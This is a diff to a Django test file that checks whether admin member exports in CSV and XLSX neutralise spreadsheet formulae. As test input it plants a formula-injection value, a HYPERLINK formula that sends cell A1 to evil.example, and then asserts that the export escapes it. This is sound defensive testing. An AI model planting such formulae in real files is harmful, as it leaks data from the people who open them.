@@ -61,27 +61,25 @@ def test_superuser_can_still_mark_an_address_verified(client, superuser):
     assert address.verified is True
 
 
-@pytest.mark.parametrize("fmt", ["0", "1"])
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 def test_exports_do_not_carry_live_formulae(client, staff, member, fmt):
     member.user.first_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     member.user.save()
     member.job_title = "+SUM(1,2)"
     member.save()
     client.force_login(staff)
-    response = client.post(
-        reverse("admin:community_member_export"),
-        {"format": fmt, "export_items": [member.pk],
-         **{f"memberresource_{f}": "on" for f in ("email", "first_name", "job_title")}},
-    )
+    response = client.get(reverse("admin:community_member_export"), {"format": fmt})
     assert response.status_code == 200
-    if fmt == "0":
+    content = b"".join(response.streaming_content)
+    if fmt == "csv":
         import csv
 
-        cells = list(csv.reader(io.StringIO(response.content.decode())))[1]
+        cells = list(csv.reader(io.StringIO(content.decode())))[1]
     else:
-        cells = [c.value for c in list(openpyxl.load_workbook(io.BytesIO(response.content)).active.rows)[1]]
+        cells = [c.value for c in list(openpyxl.load_workbook(io.BytesIO(content)).active.rows)[1]]
     assert all(not str(cell).startswith(("=", "+")) for cell in cells), cells
     assert any(str(cell).startswith("'=HYPERLINK") for cell in cells)
+    assert "'+SUM(1,2)" in cells
 
 
 def test_only_csv_and_xlsx_are_offered(client, staff):
